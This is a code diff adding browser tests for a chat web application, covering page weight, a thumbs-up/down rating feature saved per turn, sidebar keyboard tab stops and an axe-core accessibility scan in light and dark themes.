+  console.log(`    page: ${(bytes / 1024).toFixed(1)} KB over ${requests} requests (HTML, scripts, style), first contentful paint ${paint} ms`);
+  check(bytes > 0 && bytes < 80 * 1024, `the page's weight: ${bytes} bytes`);
+  await page.context().close();
+});
+
+await test('👍/👎 on an answer: the person\'s grade is kept for the turn, shown again after a reload, and can be changed', async () => {
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  await send(page, 'Rate this answer [fast-test]');
+  await idle(page);
+  const answer = lastAnswer(page);
+  await answer.locator('.body').waitFor();
+  await answer.locator('[data-testid=rate-up]').click();
+  await page.locator('[data-testid=toast]', { hasText: /graded good|Graded good/ }).waitFor();
+  eq(await answer.locator('[data-testid=rate-up]').getAttribute('aria-pressed'), 'true', '👍 pressed');
+  const sid = await page.evaluate(() => S.session);
+  const turns = async () => (await api('GET', `/v1/sessions/${encodeURIComponent(sid)}/messages`)).json.turns;
+  const n = Object.keys(await turns()).pop();
+  eq((await turns())[n].rating, 'up', 'the grade the server keeps');
+  await page.reload();
+  await lastAnswer(page).locator('[data-testid=rate-up][aria-pressed=true]').waitFor();
+  await lastAnswer(page).locator('[data-testid=rate-down]').click();
+  await lastAnswer(page).locator('[data-testid=rate-down][aria-pressed=true]').waitFor();
+  eq(await lastAnswer(page).locator('[data-testid=rate-up]').getAttribute('aria-pressed'), 'false', '👍 no longer pressed');
+  eq((await turns())[n].rating, 'down', 'the changed grade');
+  eq((await api('PUT', `/v1/sessions/${encodeURIComponent(sid)}/turns/${n}/rating`, { rating: 'great' })).status, 400, 'a grade that is neither up nor down');
+  await page.context().close();
+});
+
+await test('the profile picker is in the chat\'s header, and the sidebar has one Tab stop per chat (its rename and delete on the open one)', async () => {
+  await api('POST', '/v1/sessions', { title: 'Tab stop one' });
+  await api('POST', '/v1/sessions', { title: 'Tab stop two' });
+  const page = await open({ viewport: { width: 1280, height: 800 } });
+  await page.locator('#topbar #profile').waitFor();
+  check(await page.isVisible('#topbar #profile'), 'the profile picker in the header');
+  await page.locator('[data-testid=session-item]', { hasText: 'Tab stop two' }).waitFor();
+  const stops = await page.evaluate(() => [...document.querySelectorAll('[data-testid=session-item]')]
+    .map(li => [li.classList.contains('on'), [...li.querySelectorAll('button')].filter(b => b.tabIndex >= 0).length]));
+  check(stops.filter(([on]) => !on).every(([, n]) => n === 1), `one stop per chat not open: ${JSON.stringify(stops)}`);
+  await page.locator('[data-testid=session-item]', { hasText: 'Tab stop one' }).locator('.open').click();
+  await until(async () => (await page.locator('[data-testid=session-item].on [data-testid=session-rename]').getAttribute('tabindex')) !== '-1', 'rename reachable on the open chat');
+  await page.context().close();
+});
+
+await test('accessibility: axe-core finds no serious or critical problem on any page, in the light and the dark theme', async () => {
+  const axe = path.join(process.env.EVOLVE_BROWSER_NPM, 'node_modules', 'axe-core', 'axe.min.js');
+  // The page's CSP allows only its own scripts: the checker comes in past it.
+  const page = await open({ viewport: { width: 1280, height: 800 }, bypassCSP: true });
+  await send(page, 'Hello for the accessibility check');
+  await idle(page);
+  await lastAnswer(page).locator('.body').waitFor();
+  const found = [];
+  for (const mode of ['light', 'dark']) {
+    await page.evaluate(m => { localStorage.setItem('evolve.theme', m); theme(); }, mode);
+    for (const view of ['chat', 'memory', 'skills', 'tools', 'tasks', 'prompt', 'search', 'settings']) {
+      await page.evaluate(v => show(v), view);
+      await page.waitForTimeout(400);
+      if (!(await page.evaluate(() => typeof axe !== 'undefined'))) await page.addScriptTag({ path: axe });
+      const bad = await page.evaluate(async () => (await axe.run(document, { resultTypes: ['violations'] })).violations
+        .filter(v => v.impact === 'serious' || v.impact === 'critical')
+        .map(v => `${v.id} (${v.nodes.length}: ${v.nodes.slice(0, 2).map(n => n.target.join(' ')).join(', ')})`));
+      for (const b of bad) found.push(`${mode} ${view}: ${b}`);
+    }
+  }
+  eq(found.join('\n    '), '', 'serious or critical problems');
+  await page.context().close();
 });
 
 await test('no page errors, CSP refusals or JavaScript dialogs on the way', async () => {
